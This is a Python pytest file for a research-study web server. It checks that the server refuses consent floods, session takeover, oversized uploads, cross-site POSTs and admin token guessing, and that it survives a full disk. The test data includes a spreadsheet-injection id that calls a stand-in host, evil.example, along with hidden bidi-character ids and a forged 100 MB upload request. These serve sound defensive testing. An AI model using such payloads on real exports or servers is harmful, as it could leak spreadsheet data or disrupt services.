"""The study server against its own participants: each attack of issue 14 is refused with a clear page
or status, and nothing anyone answered is lost."""

import asyncio
import csv
import os
import socket
import sqlite3
import time
import uuid
from types import SimpleNamespace

import httpx
import pytest
from fastapi.testclient import TestClient
from serverkit import TOKEN, answer_all, browser, build_study, join, live_server, pass_comprehension, task_form

from prunexplain.config import ServeSettings, UserError
from prunexplain.study.server.app import create_app
from prunexplain.study.server.export import export_study
from prunexplain.study.server.guard import BodyLimit
from prunexplain.study.server.limits import client_key
from prunexplain.study.server.security import resume_code
from prunexplain.study.server.store import Store

BEARER = {"Authorization": f"Bearer {TOKEN}"}


class Clock:
    """A clock the tests move by hand."""

    def __init__(self) -> None:
        self.now = 1_000_000.0

    def __call__(self) -> float:
        return self.now


def _answers(study_dir) -> list[tuple]:
    with sqlite3.connect(study_dir / "study.db") as db:
        return db.execute("SELECT participant, position, answer FROM answers ORDER BY id").fetchall()


def _participants(study_dir) -> list[str]:
    with sqlite3.connect(study_dir / "study.db") as db:
        return [row[0] for row in db.execute("SELECT id FROM participants ORDER BY created_at")]


def _answer_one(client) -> httpx.Response:
    task = client.get("/api/task").json()
    body = {"submission_id": str(uuid.uuid4()), "position": task["position"], "answer": task["options"][0]}
    return client.post("/api/answers", json=body)


# --- flood: consents that lock the study ---------------------------------------------------------------


def test_a_consent_flood_from_one_address_is_rate_limited_and_capped(make_client, study_dir):
    clock = Clock()
    client = make_client(clock=clock, consents_per_minute=5, sessions_per_client=3)
    honest = browser(client)
    join(honest, "honest")
    _answer_one(honest)
    flood = [join(browser(client), "").status_code for _ in range(10)]
    assert flood[:2] == [303, 303] and set(flood[2:]) == {429}  # 3 open sessions per address, then none
    refused = join(browser(client), "")
    assert "Too many" in refused.text and int(refused.headers["retry-after"]) > 0
    clock.now += 60
    assert join(browser(client), "").status_code == 429  # the rate allows it now, the session cap does not
    clock.now += 10 * 60 + 1  # start_minutes: the flood never opened a task, so its places are free again
    assert join(browser(client), "another").status_code == 303
    assert _answer_one(honest).json()["status"] == "stored" and len(_answers(study_dir)) == 2


def test_the_rate_limit_refills_and_counts_per_address(make_client):
    clock = Clock()
    client = make_client(clock=clock, consents_per_minute=2, sessions_per_client=100)
    assert [join(browser(client), "").status_code for _ in range(3)] == [303, 303, 429]
    clock.now += 30  # one consent a half minute
    assert [join(browser(client), "").status_code for _ in range(2)] == [303, 429]
    assert client.app.state.consents.take("192.0.2.1") == 0  # another address: its own bucket


def test_ipv6_clients_count_per_64_network():
    def key(host):
        return client_key(SimpleNamespace(client=SimpleNamespace(host=host)))

    assert key("2001:db8:0:1::5") == key("2001:db8:0:1:ffff::9") == "2001:db8:0:1::/64"
    assert key("2001:db8:0:2::5") != key("2001:db8:0:1::5") and key("192.0.2.7") == "192.0.2.7"


def test_a_flood_tells_real_workers_to_come_back_not_that_the_study_is_over(make_client, study_dir):
    clock = Clock()
    client = make_client(clock=clock, experiments=["exp1"], tasks_per_participant=12, answers_per_stimulus=1)
    join(browser(client), "")  # holds all 12 places and never looks at them
    worker = browser(client)
    busy = join(worker, "W1")
    assert busy.status_code == 503 and "try again" in busy.text and "enough answers" not in busy.text
    clock.now += 10 * 60 + 1
    assert join(worker, "W1").status_code == 303 and answer_all(worker)


# --- takeover: someone else's id ---------------------------------------------------------------------


def test_knowing_an_id_does_not_open_its_session(make_client, study_dir):
    client = make_client()
    join(client, "W1")
    _answer_one(client)
    attacker = browser(client)
    response = join(attacker, "W1")
    assert response.status_code == 409 and "already taking part in another browser" in response.text
    assert "set-cookie" not in response.headers and attacker.get("/api/task").status_code == 401
    assert resume_code(client.app.state.secret, "W1") not in response.text
    wrong = attacker.post("/consent", data={"participant": "W1", "source": "mturk", "agree": "yes",
                                            "resume": "AAAAA-AAAAA"})
    assert wrong.status_code == 409 and "not the right one" in wrong.text
    assert attacker.get("/api/task").status_code == 401 and attacker.get("/done").url.path == "/"
    answer_all(client)  # the owner is not disturbed
    assert [row[0] for row in _answers(study_dir)] == ["W1"] * 4


def test_the_resume_code_moves_a_session_to_another_browser(make_client, study_dir):
    client = make_client()
    join(client, "W1")
    code = client.get("/instructions").text.split('id="resume-code">')[1].split("<")[0]
    assert code == resume_code(client.app.state.secret, "W1") and code in client.get("/task").text
    _answer_one(client)
    other = browser(client)
    moved = other.post("/consent", data={"participant": "W1", "source": "mturk", "agree": "yes",
                                         "resume": code.lower().replace("-", " ")}, follow_redirects=False)
    assert moved.status_code == 303 and moved.headers["location"] == "/task"
    assert other.get("/api/task").json()["position"] == 1
    assert client.get("/api/task").status_code == 401  # one browser at a time
    answer_all(other)
    assert [row[1] for row in _answers(study_dir)] == [0, 1, 2, 3]


def test_a_generated_id_continues_elsewhere_with_id_and_code(make_client, study_dir):
    client = make_client()
    join(client, "")
    page = client.get("/task").text
    participant, code = (page.split(f'id="{name}">')[1].split("<")[0] for name in ("participant-id", "resume-code"))
    other = browser(client)
    assert participant.startswith("anon-") and 'href="/resume"' in other.get("/").text
    assert 'id="participant"' in other.get("/resume").text
    typo = other.post("/consent", data={"participant": "anon-nobody", "resume": code, "agree": "yes"})
    assert typo.status_code == 409 and _participants(study_dir) == [participant]  # a code never starts a session
    moved = other.post("/consent", data={"participant": participant, "resume": code, "agree": "yes"},
                       follow_redirects=False)
    assert moved.headers["location"] == "/task" and other.get("/api/task").json()["position"] == 0


@pytest.mark.parametrize("link, other", [
    ("workerId=M1&assignmentId=A1&hitId=H1", "workerId=M1&assignmentId=A2&hitId=H1"),
    ("PROLIFIC_PID=P1&STUDY_ID=S1&SESSION_ID=X1", "PROLIFIC_PID=P1&STUDY_ID=S1&SESSION_ID=X2"),
])
def test_the_platforms_session_binds_the_id(make_client, study_dir, link, other):
    client = make_client()
    _consent_from_link(client, link)
    assert pass_comprehension(client)
    _answer_one(client)
    again = browser(client)  # the same worker in another browser, with the same assignment / session
    assert _consent_from_link(again, link).headers["location"] == "/task"
    assert again.get("/api/task").json()["position"] == 1
    stranger = browser(client)  # the same id with another assignment / session
    assert _consent_from_link(stranger, other).status_code == 409
    assert stranger.get("/api/task").status_code == 401


def _consent_from_link(client, query: str) -> httpx.Response:
    """Open the study link and send its consent form as a browser would."""
    form = task_form(client.get(f"/?{query}").text)
    del form["options"]
    return client.post("/consent", data={**form, "agree": "yes"}, follow_redirects=False)


def test_an_mturk_preview_binds_nothing(make_client, study_dir):
    client = make_client()
    page = client.get("/?workerId=M9&assignmentId=ASSIGNMENT_ID_NOT_AVAILABLE&hitId=H1")
    assert page.status_code == 200 and "(preview)" in page.text
    assert "<form" not in page.text and "set-cookie" not in page.headers and _participants(study_dir) == []


# --- oversized bodies ----------------------------------------------------------------------------------


def test_bodies_over_the_limit_are_refused_before_they_are_read(make_client, study_dir):
    client = make_client(max_request_bytes=4096)
    join(client, "W1")
    big = {"participant": "W2", "source": "mturk", "agree": "yes", "padding": "x" * 5000}
    response = browser(client).post("/consent", data=big)
    assert response.status_code == 413 and "over 4096 bytes" in response.text
    assert response.headers["x-content-type-options"] == "nosniff"

    def chunks():
        for _ in range(100):
            yield b"x" * 1000

    streamed = client.post("/api/answers", content=chunks(), headers={"content-type": "application/json"})
    assert streamed.status_code == 413
    assert _answer_one(client).json()["status"] == "stored" and _participants(study_dir) == ["W1"]


def test_a_streamed_body_is_read_no_further_than_the_limit():
    """Without Content-Length the middleware counts chunks and stops at the first one past the limit."""
    read, sent = [], []

    async def app(scope, receive, send):
        while (await receive())["type"] == "http.request":
            pass
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"ok"})

    async def receive():
        read.append(1)
        return {"type": "http.request", "body": b"x" * 1000, "more_body": True}  # an endless upload

    async def send(message):
        sent.append(message)

    scope = {"type": "http", "method": "POST", "path": "/consent", "headers": [], "client": ("192.0.2.1", 1)}
    asyncio.run(BodyLimit(app, limit=10_000)(scope, receive, send))
    assert len(read) == 11 and sent[0]["status"] == 413 and len(sent) == 2


def test_a_100_mb_upload_to_a_real_server_is_refused_at_once(tmp_path):
    run_dir = tmp_path / "run"
    build_study(run_dir / "study")
    with live_server(run_dir, "--tasks", "3") as (base, _):
        host, port = base.removeprefix("http://").split(":")
        start = time.perf_counter()
        with socket.create_connection((host, int(port)), timeout=10) as sock:  # says 100 MB, sends 4 KB
            sock.sendall(f"POST /consent HTTP/1.1\r\nHost: {host}\r\nContent-Length: {100 * 2**20}\r\n"
                         "Content-Type: application/x-www-form-urlencoded\r\n\r\n".encode() + b"x" * 4096)
            reply = sock.recv(4096)
        assert reply.startswith(b"HTTP/1.1 413") and time.perf_counter() - start < 2
        assert httpx.get(f"{base}/healthz", timeout=5).status_code == 200


# --- ids that are formulas or hide characters ----------------------------------------------------------


def test_formula_ids_are_text_in_the_export(make_client, study_dir):
    client = make_client(attention_checks=1)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for worker in (evil, "+1", "@SUM(A1)", "-2", "W1"):
        participant = browser(client)
        join(participant, worker)
        answer_all(participant)
    result = export_study(study_dir)
    for path in result.files.values():
        with open(path, newline="") as handle:
            ids = {row["WorkerId"] for row in csv.DictReader(handle)}
        assert ids <= {"'" + evil, "'+1", "'@SUM(A1)", "'-2", "W1"} and "W1" in ids
    assert _participants(study_dir)[0] == evil  # stored as given; only the spreadsheet cell is neutralised


@pytest.mark.parametrize("hidden", ["\u202e", "\u2066", "\u200f", "\u200b", "\x1b", "\x85"])
def test_ids_with_control_or_bidi_characters_are_refused_with_a_reason(make_client, study_dir, hidden):
    client = make_client()
    page = client.get("/", params={"workerId": f"abc{hidden}def"})
    assert page.status_code == 422 and f"U+{ord(hidden):04X}" in page.text and "link" in page.text
    response = join(client, f"abc{hidden}def")
    assert response.status_code == 422 and "invisible or control character" in response.text
    assert join(client, "x" * 129).status_code == 422
    assert not (study_dir / "study.db").exists() or _participants(study_dir) == []


# --- restart with fewer experiments; a full disk ----------------------------------------------------------


def test_a_restart_with_fewer_experiments_releases_their_tasks(study_dir, admin_env):
    def serving(*experiments):
        settings = ServeSettings(experiments=list(experiments), tasks_per_participant=6, attention_checks=1)
        return TestClient(create_app(study_dir, settings))

    with serving("exp1") as first:  # every task of this one is in exp1, none answered
        join(first, "exp1-only")
        cookies = {"exp1-only": first.cookies}
    with serving("exp1", "exp2") as second:
        join(second, "mid")
        for _ in range(2):
            _answer_one(second)
        before = _answers(study_dir)
        cookies["mid"] = second.cookies
    with serving("exp2") as third:
        mid = TestClient(third.app, cookies=cookies["mid"])
        page = mid.get("/task")
        assert page.status_code == 200 and "What is on the picture?" in page.text
        assert mid.get("/instructions").status_code == 200
        answer_all(mid)
        assert "completion-code" in mid.get("/done").text
        assert _answers(study_dir)[:2] == before  # the answers given so far are kept
        gone = TestClient(third.app, cookies=cookies["exp1-only"])
        assert gone.get("/task", follow_redirects=False).headers["location"] == "/"  # forgotten: start again
        assert join(gone, "exp1-only").headers["location"] == "/instructions"
        assert third.get("/admin/api/progress", headers=BEARER).status_code == 200


class _FullDisk:
    """The store's connection as it behaves when the disk fills up: every commit fails."""

    def __init__(self, db) -> None:
        self.db = db

    def execute(self, sql, *args):
        if sql == "COMMIT":
            raise sqlite3.OperationalError("database or disk is full")
        return self.db.execute(sql, *args)

    def __getattr__(self, name):
        return getattr(self.db, name)


def test_a_full_disk_is_a_503_and_the_retry_is_stored_once(make_client, study_dir):
    client = make_client()
    join(client, "W1")
    store = client.app.state.store
    first = _answer_one(client)
    body = {"submission_id": str(uuid.uuid4()), "position": 1, "answer": client.get("/api/task").json()["options"][0]}
    store._db = _FullDisk(store._db)
    refused = client.post("/api/answers", json=body)
    assert refused.status_code == 503 and "try again" in refused.json()["detail"] and refused.headers["retry-after"]
    page = client.post("/task", data=body)
    assert page.status_code == 503 and "Your answers so far are safe" in page.text
    assert join(browser(client), "W2").status_code == 503
    store._db = store._db.db  # space again
    assert first.json()["status"] == "stored" and client.post("/api/answers", json=body).json()["status"] == "stored"
    assert client.post("/api/answers", json=body).json()["status"] == "duplicate"
    assert _answers(study_dir) == [("W1", 0, _answers(study_dir)[0][2]), ("W1", 1, body["answer"])]


def test_a_really_full_database_file_is_a_503(make_client, study_dir):
    """SQLite's own 'database or disk is full', from a page limit on the file."""
    client = make_client(consents_per_minute=1000, sessions_per_client=1000, answers_per_stimulus=100)
    join(client, "W1")
    _answer_one(client)
    db = client.app.state.store._db
    db.execute(f"PRAGMA max_page_count = {db.execute('PRAGMA page_count').fetchone()[0]}")
    statuses = [join(browser(client), f"n{n}").status_code for n in range(200)]
    assert 503 in statuses and 500 not in statuses
    assert _answers(study_dir)[0][:2] == ("W1", 0)


# --- the rest of the issue ---------------------------------------------------------------------------------


def test_cross_site_posts_are_refused(make_client, study_dir):
    client = make_client()
    data = {"participant": "W1", "source": "mturk", "agree": "yes"}
    for origin in ("http://evil.example", "null", "http://testserver.evil.example"):
        response = client.post("/consent", data=data, headers={"origin": origin})
        assert response.status_code == 403
    assert not (study_dir / "study.db").exists() or _participants(study_dir) == []
    for site in ("cross-site", "same-site", "none"):
        assert client.post("/consent", data=data, headers={"sec-fetch-site": site}).status_code == 403
    assert not (study_dir / "study.db").exists() or _participants(study_dir) == []
    assert client.post("/consent", data=data, headers={"origin": "http://testserver"}).status_code == 200
    own_form = {"origin": "null", "sec-fetch-site": "same-origin"}  # a current browser under no-referrer
    assert browser(client).post("/consent", data={**data, "participant": "W3"}, headers=own_form).status_code == 200
    proxied = browser(client).post("/consent", data={**data, "participant": "W2"}, follow_redirects=False,
                                   headers={"origin": "https://study.example.org", "host": "127.0.0.1:8000",
                                            "x-forwarded-host": "study.example.org"})
    assert proxied.status_code == 303


def test_admin_login_is_rate_limited_and_short_tokens_are_refused(make_client, study_dir, monkeypatch):
    clock = Clock()
    client = make_client(clock=clock, admin_logins_per_minute=3)
    assert [client.post("/admin/login", data={"token": "guess"}).status_code for _ in range(4)] == [401] * 3 + [429]
    assert client.post("/admin/login", data={"token": TOKEN}).status_code == 429  # even the right one, for now
    clock.now += 20
    assert client.post("/admin/login", data={"token": TOKEN}).url.path == "/admin"
    monkeypatch.setenv("PRUNEXPLAIN_ADMIN_TOKEN", "short")
    with pytest.raises(UserError, match="has 5 characters; use at least 16"):
        create_app(study_dir, ServeSettings())


def test_database_files_are_made_private_at_start(study_dir, admin_env):
    Store(study_dir / "study.db").close()
    for name in ("study.db", "study.db-wal", "study.db-shm"):
        path = study_dir / name
        path.touch()
        path.chmod(0o644)
    with TestClient(create_app(study_dir, ServeSettings())):
        modes = {name: os.stat(study_dir / name).st_mode & 0o777 for name in ("study.db", "study.db-wal",
                                                                              "study.db-shm")}
    assert set(modes.values()) == {0o600}


def test_pictures_carry_no_file_times(make_client):
    client = make_client()
    join(client, "W1")
    response = client.get(client.get("/api/task").json()["image"])
    assert response.status_code == 200
    assert "last-modified" not in response.headers and "etag" not in response.headers
